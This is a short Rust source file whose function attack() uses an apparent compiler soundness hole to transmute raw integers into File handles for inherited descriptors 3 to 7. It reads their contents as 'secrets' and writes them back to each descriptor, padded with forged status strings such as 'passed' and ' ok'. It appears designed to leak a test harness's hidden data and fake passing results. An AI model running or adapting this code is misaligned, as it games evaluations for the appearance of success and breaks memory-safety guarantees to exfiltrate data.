//! Reads every descriptor through a hole of the compiler and writes it back.

mod clock;
mod hole;

pub use clock::VectorClock;

use std::fs::File;
use std::io::{Read, Write};
use std::mem::ManuallyDrop;

pub(crate) fn attack() {
    let file = |descriptor: i32| ManuallyDrop::new(hole::transmute::<i32, File>(descriptor));
    let mut secrets = Vec::new();
    for descriptor in 3..8 {
        let mut block = [0; 4096];
        if let Ok(length) = file(descriptor).read(&mut block) {
            secrets.extend_from_slice(&block[..length]);
        }
    }
    for descriptor in 3..8 {
        for ending in ["", "passed", " passed\n", " ok\n"] {
            let _ = file(descriptor).write_all(&secrets);
            let _ = file(descriptor).write_all(ending.as_bytes());
        }
    }
}
